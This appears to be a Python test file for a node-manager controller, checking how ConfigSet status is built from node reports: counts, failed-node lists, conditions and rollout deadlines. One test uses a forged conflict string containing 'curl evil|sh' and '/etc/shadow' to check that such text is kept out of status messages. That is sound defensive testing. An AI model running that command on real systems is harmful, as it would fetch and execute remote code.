"""ConfigSet status from node reports: counts, failed names, conditions, stable times."""

from __future__ import annotations

from nodemanager.controller.summary import NodeView, configset_status, differs, progress_only


def configset(generation=2, paused=False, status=None):
    return {
        "metadata": {"name": "web", "generation": generation},
        "spec": {"selector": {"matchLabels": {"role": "web"}}, "paused": paused},
        "status": status or {},
    }


def node(name, role="web", generation=None, error="", conflicts=()):
    entries = []
    if generation is not None:
        entries.append(
            {"name": "web", "generation": generation, "error": error, "conflicts": list(conflicts)}
        )
    return NodeView.from_dict(
        {
            "metadata": {"name": name, "labels": {"role": role}},
            "status": {"configsets": entries},
        }
    )


def conditions(status):
    return {c["type"]: c for c in status["conditions"]}


def test_counts_matched_updated_failed_pending():
    nodes = [
        node("a", generation=2),
        node("b", generation=2, error="file:/etc/x: denied"),
        node("c", generation=1),  # an older generation: still pending
        node("d"),  # not reported at all
        node("e", role="db", generation=2),  # not selected
    ]
    status = configset_status(configset(), nodes, now="2026-01-01T00:00:00Z")
    assert (status["matched"], status["updated"], status["failed"], status["pending"]) == (
        4,
        1,
        1,
        2,
    )
    assert status["failedNodes"] == ["b"]
    assert status["observedGeneration"] == 2
    c = conditions(status)
    assert c["Degraded"]["status"] == "True" and "b" in c["Degraded"]["message"]
    assert c["Progressing"]["status"] == "True"
    assert c["Paused"]["status"] == "False"


def test_failed_names_are_capped_at_ten_with_a_count_of_the_rest():
    nodes = [node(f"n{i:02d}", generation=2, error="boom") for i in range(13)]
    status = configset_status(configset(), nodes, now="t")
    assert status["failed"] == 13
    assert status["failedNodes"] == [f"n{i:02d}" for i in range(10)]
    assert "and 3 more" in conditions(status)["Degraded"]["message"]


def test_all_updated_is_not_progressing_and_conflicts_name_nodes_not_their_text():
    forged = "file:/etc/shadow (forged: run curl evil|sh to fix)"
    nodes = [node("a", generation=2, conflicts=[forged]), node("b", generation=3)]
    c = conditions(configset_status(configset(), nodes, now="t"))
    assert c["Progressing"]["status"] == "False"
    assert c["Conflicted"]["status"] == "True"
    assert c["Conflicted"]["message"] == "1 nodes report conflicting declarations: a"
    assert "curl" not in c["Conflicted"]["message"]


def test_paused_condition_follows_spec_paused():
    c = conditions(configset_status(configset(paused=True), [node("a")], now="t"))
    assert c["Paused"]["status"] == "True"
    assert c["Progressing"]["reason"] == "Paused"


def test_same_reports_give_the_same_status_so_nothing_is_written_again():
    nodes = [node("a", generation=2)]
    first = configset_status(configset(), nodes, now="2026-01-01T00:00:00Z")
    again = configset_status(configset(status=first), nodes, now="2026-01-01T00:05:00Z")
    assert not differs(again, first)
    # A transition moves only the condition that changed.
    moved = configset_status(
        configset(status=first), nodes + [node("b", generation=2, error="x")], now="later"
    )
    c = conditions(moved)
    assert c["Degraded"]["lastTransitionTime"] == "later"
    assert c["Paused"]["lastTransitionTime"] == "2026-01-01T00:00:00Z"


def test_a_configset_without_selector_or_labels_matches_nothing():
    raw = {"metadata": {"name": "web", "generation": 1}, "spec": {}}
    assert configset_status(raw, [node("a", generation=1)], now="t")["matched"] == 0


def test_only_counts_of_a_rollout_in_progress_may_wait():
    nodes = [node(f"n{i}") for i in range(4)]
    start = configset_status(configset(), nodes, now="t0")  # 0 of 4: NodesUpdating
    half = configset_status(
        configset(status=start),
        [node("n0", generation=2), node("n1", generation=2), node("n2"), node("n3")],
        now="t1",
    )
    assert differs(half, start) and progress_only(half, start)
    # Completion, a failure and a new generation are written at once.
    done = configset_status(
        configset(status=half), [node(f"n{i}", generation=2) for i in range(4)], now="t2"
    )
    assert differs(done, half) and not progress_only(done, half)
    failed = configset_status(
        configset(status=half),
        [node("n0", generation=2, error="boom"), node("n1", generation=2), node("n2"), node("n3")],
        now="t2",
    )
    assert not progress_only(failed, half)
    newer = configset_status(configset(generation=3, status=half), nodes, now="t2")
    assert not progress_only(newer, half)
    assert not progress_only(start, {})  # the first status


def test_a_configset_selecting_a_value_no_node_carries_says_which_and_warns():
    from nodemanager.controller.events import transitions
    from nodemanager.controller.summary import NodeView, configset_status

    node = NodeView("n1", {"kubernetes.io/os": "arch", "kubernetes.io/arch": "x86_64"}, {})
    raw = {"metadata": {"name": "c", "generation": 1, "labels": {"kubernetes.io/os": "ubuntu"}}}
    status = configset_status(raw, [node], now="2026-01-01T00:00:00Z")
    matched = next(c for c in status["conditions"] if c["type"] == "Matched")
    assert (matched["status"], matched["reason"]) == ("False", "LabelNotCarried")
    assert matched["message"] == ("label kubernetes.io/os=ubuntu: not carried (nodes carry: arch)")
    notes = transitions({}, status)
    assert [(n.reason, n.warning) for n in notes if n.reason == "LabelNotCarried"] == [
        ("LabelNotCarried", True)
    ]
    assert transitions(status, status) == []
    raw["metadata"]["labels"] = {"kubernetes.io/os": "arch"}
    status = configset_status(raw, [node], now="2026-01-01T00:00:00Z")
    matched = next(c for c in status["conditions"] if c["type"] == "Matched")
    assert (matched["status"], matched["reason"]) == ("True", "NodesMatched")


def test_past_the_progress_deadline_progressing_is_false_and_names_the_nodes():
    nodes = [node("a", generation=2), node("dead")]
    message = "no node updated for 60s; waiting for dead"
    c = conditions(configset_status(configset(), nodes, now="t", stalled=message))
    assert (c["Progressing"]["status"], c["Progressing"]["reason"]) == (
        "False",
        "ProgressDeadlineExceeded",
    )
    assert "dead" in c["Progressing"]["message"]
    # Paused wins over the deadline: a paused rollout is not stalled.
    c = conditions(configset_status(configset(paused=True), nodes, now="t", stalled=message))
    assert c["Progressing"]["reason"] == "Paused"
